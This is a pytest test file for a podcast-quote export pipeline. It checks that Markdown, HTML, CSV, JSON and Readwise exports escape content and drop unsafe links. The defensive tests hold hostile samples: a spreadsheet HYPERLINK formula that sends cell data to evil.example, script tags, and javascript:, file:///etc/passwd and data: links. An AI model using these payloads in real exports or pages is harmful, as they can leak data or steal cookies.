import csv
import io
import json
import os
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner

from conftest import CORPUS
from items_fixture import NASTY, make_db
from pipeline import export as export_module
from pipeline.cli import cli
from pipeline.citations import format_timestamp, timestamp_url
from pipeline.collections import add_items, save_collection, set_note
from pipeline.export import FIELDS, FORMATS, ExportError, export_items, md_escape
from pipeline.review import edit_item

FIELD_NAMES = [name for name, _ in FIELDS]


@pytest.fixture
def fixture_db(db_path):
    db = make_db(db_path)
    save_collection(db, "Customer tips", 'Tips about customers: "the" best, <b>really</b>')
    add_items(db, "Customer tips", [5, 3, 1])
    set_note(db, "Customer tips", 3, "Pair with *design* notes")
    edit_item(db, 1, text="Talk to customers weekly.")
    return db


def run(db_path, *args):
    return CliRunner().invoke(cli, [*args, "--db", str(db_path)], catch_exceptions=False)


def export_text(db, fmt, **kwargs):
    out = io.StringIO(newline="")
    export_items(db, fmt, out=out, **kwargs)
    return out.getvalue()


MARKDOWN = """\
---
title: Customer tips
description: 'Tips about customers: "the" best, <b>really</b>'
collection: Customer tips
items: 3
people: 2
---

# Customer tips

Tips about customers: "the" best, \\<b\\>really\\</b\\>

## Corie Miller

> Tricky "quotes", commas,
> newlines and \\<script\\>alert(1)\\</script\\> — naïve café 日本 \\& more
>
> — Corie Miller, Senior Product Manager at Acme, *Customers first*, 2024-03-01, \
[\\[03:20\\]](<https://www.youtube.com/watch?v=abc123&t=200s>)

> Talk to customers weekly.
>
> — Corie Miller, Senior Product Manager at Acme, *Customers first*, 2024-03-01, \
[\\[01:05\\]](<https://www.youtube.com/watch?v=abc123&t=65s>)

## Dana Lee

> Prototype before you write the spec.
>
> — Dana Lee, Design Lead at Studio, *Customers first*, 2024-03-01, \
[\\[02:10\\]](<https://www.youtube.com/watch?v=abc123&t=130s>)

*Note:* Pair with \\*design\\* notes

"""


def test_markdown_grouped_by_person_with_citations(fixture_db, db_path, tmp_path):
    out = tmp_path / "tips.md"
    result = run(db_path, "export", "Customer tips", "--format", "md", "-o", str(out))
    assert result.exit_code == 0
    assert result.stderr == "exported 3 items to " + str(out) + "\n"
    assert out.read_text() == MARKDOWN


def test_markdown_without_a_collection(fixture_db):
    text = export_text(fixture_db, "md", query="roadmap", statuses=["approved"])
    assert text.startswith("---\ntitle: 'Search: roadmap'\nquery: roadmap\nfilters:\n  status:\n  - approved\n"
                           "items: 1\npeople: 1\n---\n")
    # an episode page that is not YouTube: the audio URL with a media fragment
    assert "[\\[1:02:05\\]](<https://cdn.example.com/ep2.mp3#t=3725>)" in text


class Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_self_contained_and_escaped(fixture_db):
    page = export_text(fixture_db, "html", collection="Customer tips")
    parser = Collect()
    parser.feed(page)
    tags = [t for t, _ in parser.tags]
    assert "script" not in tags and "b" not in tags  # shown, never run
    assert not any(a.get("src") for _, a in parser.tags)  # nothing loaded from elsewhere
    assert "<link" not in page
    assert ("meta", {"http-equiv": "Content-Security-Policy",
                     "content": "default-src 'none'; style-src 'unsafe-inline'"}) in parser.tags
    text = "".join(parser.text)
    assert NASTY in text
    assert 'Tips about customers: "the" best, <b>really</b>' in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    links = [a["href"] for t, a in parser.tags if t == "a"]
    assert links == ["https://www.youtube.com/watch?v=abc123&t=200s", "https://www.youtube.com/watch?v=abc123&t=65s",
                     "https://www.youtube.com/watch?v=abc123&t=130s"]
    assert "Verbatim</summary>Talk to customers every week.</details>" in page
    assert "Note: Pair with *design* notes" in page


def test_csv_round_trip_with_every_field(fixture_db):
    rows = list(csv.DictReader(io.StringIO(export_text(fixture_db, "csv", collection="Customer tips"))))
    assert list(rows[0]) == FIELD_NAMES
    assert [r["id"] for r in rows] == ["5", "3", "1"]  # the collection's order
    assert rows[0]["text"] == NASTY
    assert rows[2] == {
        "id": "1", "kind": "tip", "status": "pending", "text": "Talk to customers weekly.",
        "original_text": "Talk to customers every week.", "edited": "true", "speaker": "Corie Miller",
        "person": "Corie Miller", "person_slug": "corie-miller", "person_title": "Senior Product Manager",
        "organization": "Acme", "role": "Product Manager", "topics": "customers", "score": "0.9", "episode_id": "1",
        "episode_guid": "ep-1", "episode_title": "Customers first", "published": "2024-03-01T00:00:00+00:00",
        "feed": "PM Talks", "start": "65.0", "end": "68.5", "timestamp": "01:05",
        "url": "https://www.youtube.com/watch?v=abc123&t=65s", "episode_link": "https://www.youtube.com/watch?v=abc123",
        "enclosure_url": "https://cdn.example.com/ep1.mp3", "source": "transcript", "transcript_source": "",
        "model": "", "extractor_version": "", "segment_ids": "", "features": "",
        "created": "2024-04-01T00:00:00+00:00", "updated": rows[2]["updated"], "reviewed": "", "position": "3",
        "note": "",
    }


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_round_trip(fixture_db, fmt):
    text = export_text(fixture_db, fmt, collection="Customer tips")
    rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
    assert [r["id"] for r in rows] == [5, 3, 1]
    assert list(rows[0]) == FIELD_NAMES
    assert rows[0]["text"] == NASTY
    assert rows[0]["topics"] == ["customers"]
    assert (rows[1]["note"], rows[1]["position"], rows[2]["edited"]) == ("Pair with *design* notes", 2, True)


def test_readwise_csv(fixture_db):
    text = export_text(fixture_db, "readwise", collection="Customer tips")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"],
        [NASTY, "Customers first", "Corie Miller", "https://www.youtube.com/watch?v=abc123&t=200s", "", "200",
         "2024-03-01 00:00:00"],
        ["Prototype before you write the spec.", "Customers first", "Dana Lee",
         "https://www.youtube.com/watch?v=abc123&t=130s", "Pair with *design* notes", "130", "2024-03-01 00:00:00"],
        ["Talk to customers weekly.", "Customers first", "Corie Miller",
         "https://www.youtube.com/watch?v=abc123&t=65s", "", "65", "2024-03-01 00:00:00"],
    ]
    assert text.startswith("Highlight,Title,Author,URL,Note,Location,Date\r\n")


def test_jsonl_for_the_scorer(fixture_db, db_path, tmp_path):
    result = run(db_path, "export", "--format", "jsonl")
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in rows] == [2, 1, 3, 5]  # by episode date and time; rejected 4 left out
    for field in ("kind", "text", "speaker", "person", "role", "episode_guid", "episode_title", "start", "end",
                  "score"):
        assert field in rows[0]
    all_rows = [json.loads(line) for line in run(db_path, "export", "--format", "jsonl", "--status", "all")
                .stdout.splitlines()]
    assert [r["id"] for r in all_rows] == [4, 2, 1, 3, 5]
    if not (CORPUS / "score.py").exists():
        pytest.skip("../shared/corpus is not beside the project")
    gold = tmp_path / "gold.jsonl"
    gold.write_text(json.dumps({"kind": "tip", "text": "Prototype before you write the spec.", "episode_guid": "ep-1",
                                "speaker": "Dana Lee"}) + "\n")
    exported = tmp_path / "items.jsonl"
    run(db_path, "export", "--format", "jsonl", "--kind", "tip", "-o", str(exported))
    score = subprocess.run([sys.executable, str(CORPUS / "score.py"), str(gold), str(exported)],
                           capture_output=True, text=True, check=True)
    assert score.stdout.splitlines()[-1] == "tip_f1=0.667 quote_f1=0.000 attribution_errors=0"


def test_filters_and_search(fixture_db, db_path):
    result = run(db_path, "export", "--search", "customers", "--kind", "tip", "--role", "product manager",
                 "--format", "jsonl")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == [1]
    result = run(db_path, "export", "Customer tips", "--search", "spec", "--format", "jsonl")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == [3]


@pytest.mark.parametrize("fmt", FORMATS)
def test_exports_are_deterministic(fixture_db, fmt):
    assert export_text(fixture_db, fmt) == export_text(fixture_db, fmt)
    assert export_text(fixture_db, fmt, collection="Customer tips") == \
        export_text(fixture_db, fmt, collection="Customer tips")


@pytest.mark.parametrize("fmt, expected", [
    ("csv", ",".join(FIELD_NAMES) + "\r\n"),
    ("readwise", "Highlight,Title,Author,URL,Note,Location,Date\r\n"),
    ("json", "[]\n"),
    ("jsonl", ""),
    ("md", "---\ntitle: 'Search: nothingmatches'\nquery: nothingmatches\nitems: 0\npeople: 0\n---\n\n"
           "# Search: nothingmatches\n\nNo items.\n"),
])
def test_empty_result_is_an_empty_file_with_headers(fixture_db, db_path, tmp_path, fmt, expected):
    out = tmp_path / f"empty.{fmt}"
    result = run(db_path, "export", "--search", "nothingmatches", "--format", fmt, "-o", str(out))
    assert result.exit_code == 0
    assert out.read_bytes().decode() == expected


def test_empty_html_page(fixture_db):
    page = export_text(fixture_db, "html", query="nothingmatches")
    assert '<p class="meta">0 items</p>\n</body>\n</html>\n' in page


def test_format_from_the_file_suffix(fixture_db, db_path, tmp_path):
    for name, start in (("a.html", "<!DOCTYPE html>"), ("a.csv", "id,kind"), ("a.json", "[\n  {"),
                        ("a.jsonl", '{"id"'), ("a.txt", "---\n")):
        run(db_path, "export", "-o", str(tmp_path / name))
        assert (tmp_path / name).read_text().startswith(start), name


def test_unwritable_path_is_a_clear_error(fixture_db, db_path, tmp_path):
    result = run(db_path, "export", "--format", "md", "-o", str(tmp_path / "missing" / "out.md"))
    assert result.exit_code == 1
    assert result.output == f"Error: cannot write {tmp_path}/missing/out.md: No such file or directory\n"
    (tmp_path / "dir.md").mkdir()
    result = run(db_path, "export", "--format", "md", "-o", str(tmp_path / "dir.md"))
    assert result.exit_code == 2
    assert result.output.endswith(f"Error: Invalid value for '-o' / '--output': File '{tmp_path}/dir.md' "
                                  "is a directory.\n")
    with pytest.raises(ExportError, match=f"^cannot write {tmp_path}/dir.md: Is a directory$"):
        export_items(fixture_db, "md", path=tmp_path / "dir.md")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.md", "test.db", "test.db-shm", "test.db-wal"]


def test_never_partially_written(fixture_db, tmp_path, monkeypatch):
    out = tmp_path / "items.jsonl"
    out.write_text("the previous export\n")

    def broken(rows, f, meta):
        f.write("half a line")
        raise RuntimeError("disk on fire")

    monkeypatch.setitem(export_module.WRITERS, "jsonl", broken)
    with pytest.raises(RuntimeError):
        export_items(fixture_db, "jsonl", path=out)
    assert out.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if "items" in p.name) == ["items.jsonl"]


def test_written_file_has_normal_permissions(fixture_db, tmp_path):
    out = tmp_path / "items.csv"
    export_items(fixture_db, "csv", path=out)
    mask = os.umask(0)
    os.umask(mask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~mask


@pytest.mark.parametrize("link, enclosure, start, expected", [
    ("https://www.youtube.com/watch?v=x&t=5s", None, 61.9, "https://www.youtube.com/watch?v=x&t=61s"),
    ("https://youtu.be/x", "https://a/ep.mp3", 3, "https://youtu.be/x?t=3s"),
    ("https://example.com/ep", "https://a/ep.mp3#old", 3725, "https://a/ep.mp3#t=3725"),
    ("https://example.com/ep", None, 10, "https://example.com/ep"),
    ("javascript:alert(1)", "file:///etc/passwd", 10, None),
    ("https://example.com/ep", "https://a/ep.mp3", None, "https://example.com/ep"),
])
def test_timestamp_url(link, enclosure, start, expected):
    assert timestamp_url(link, enclosure, start) == expected


def test_format_timestamp():
    assert [format_timestamp(s) for s in (None, 0, 65.9, 3599, 3600, 36125)] == \
        ["", "00:00", "01:05", "59:59", "1:00:00", "10:02:05"]


def test_md_escape():
    assert md_escape("*a* _b_ [c](d) <e> `f` # g & h") == \
        "\\*a\\* \\_b\\_ \\[c\\](d) \\<e\\> \\`f\\` \\# g \\& h"
    assert md_escape("- item\n1986. A year\n+ x\n=== y") == "\\- item\n1986\\. A year\n\\+ x\n\\=== y"


# --- what a spreadsheet or a browser would act on ---------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]


@pytest.fixture
def formula_db(db_path):
    items = [{"id": n, "kind": "tip", "text": text, "episode_id": 1, "speaker": "=Evil Speaker", "start": 10.0 * n,
              "end": 10.0 * n + 5, "topics": ["customers"], "score": 0.9, "status": "approved"}
             for n, text in enumerate(FORMULAS, 1)]
    return make_db(db_path, items=items)


def csv_cells(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(formula_db, db_path):
    guarded = ["'" + f for f in FORMULAS]
    rows = csv_cells(export_text(formula_db, "csv"))
    assert [r[rows[0].index("text")] for r in rows[1:]] == guarded
    assert {r[rows[0].index("speaker")] for r in rows[1:]} == {"'=Evil Speaker"}
    assert rows[1][rows[0].index("score")] == "0.9" and rows[1][rows[0].index("start")] == "10.0"
    assert [r[0] for r in csv_cells(export_text(formula_db, "readwise"))[1:]] == guarded
    search = csv_cells(run(db_path, "search", "--csv").output)
    assert sorted(r[search[0].index("text")] for r in search[1:]) == sorted(guarded)
    query = run(db_path, "query", "select text, speaker, score from items order by id", "--csv").output
    assert csv_cells(query)[1:] == [[g, "'=Evil Speaker", "0.9"] for g in guarded]
    # json keeps the data as it is: nothing runs it
    assert [r["text"] for r in json.loads(export_text(formula_db, "json"))] == FORMULAS


def test_raw_csv_writes_cells_as_stored(formula_db, db_path, tmp_path):
    rows = csv_cells(export_text(formula_db, "csv", raw_csv=True))
    assert [r[rows[0].index("text")] for r in rows[1:]] == FORMULAS
    out = tmp_path / "raw.csv"
    assert run(db_path, "export", "-o", str(out), "--raw-csv").exit_code == 0
    assert [r[3] for r in csv_cells(open(out, newline="").read())[1:]] == FORMULAS
    query = run(db_path, "query", "select text from items order by id", "--raw-csv").output
    assert [r[0] for r in csv_cells(query)[1:]] == FORMULAS
    search = csv_cells(run(db_path, "search", "--raw-csv").output)
    assert sorted(r[search[0].index("text")] for r in search[1:]) == sorted(FORMULAS)


def test_only_http_links_are_exported_in_every_format(fixture_db, db_path):
    fixture_db["episodes"].update(1, {"link": "javascript:alert(document.cookie)",
                                      "enclosure_url": "file:///etc/passwd"})
    fixture_db["episodes"].update(2, {"link": "data:text/html,<script>alert(1)</script>",
                                      "enclosure_url": "https://cdn.example.com/ep2.mp3"})
    for fmt in ("csv", "json", "jsonl", "md", "html", "readwise"):
        text = export_text(fixture_db, fmt)
        for bad in ("javascript:", "file:", "data:"):
            assert bad not in text, (fmt, bad)
    rows = {r["episode_id"]: r for r in json.loads(export_text(fixture_db, "json"))}
    assert (rows[1]["episode_link"], rows[1]["enclosure_url"], rows[1]["url"]) == (None, None, None)
    assert (rows[2]["episode_link"], rows[2]["enclosure_url"]) == (None, "https://cdn.example.com/ep2.mp3")


def test_clean_export_uses_the_cleaned_words_marked_and_never_over_an_editor(fixture_db, db_path):
    # item 2 has a cleaned version from the extractor; item 1 was edited by an editor (fixture)
    fixture_db["items"].update(2, {"clean_text": "A roadmap is a promise."})
    fixture_db["items"].update(1, {"clean_text": "Talk to customers."})
    plain = export_text(fixture_db, "md")
    assert "A roadmap is a promise, so we make fewer of them." in plain and "edited for clarity" not in plain
    cleaned = export_text(fixture_db, "md", clean=True)
    assert "> A roadmap is a promise.\n" in cleaned and "*edited for clarity*" in cleaned
    assert "Talk to customers weekly." in cleaned  # the editor's words win
    rows = [json.loads(line) for line in export_text(fixture_db, "jsonl", clean=True).splitlines()]
    by_id = {r["id"]: r for r in rows}
    assert by_id[2]["text"] == "A roadmap is a promise." and by_id[2]["edited_for_clarity"] is True
    assert by_id[2]["original_text"] == "A roadmap is a promise, so we make fewer of them."
    assert by_id[1]["edited_for_clarity"] is False
    page = export_text(fixture_db, "html", clean=True)
    assert "edited for clarity" in page and "<summary>Verbatim</summary>A roadmap is a promise, so we make" in page
    out = run(db_path, "export", "--clean", "--format", "readwise")
    assert out.exit_code == 0 and "edited for clarity" in out.output
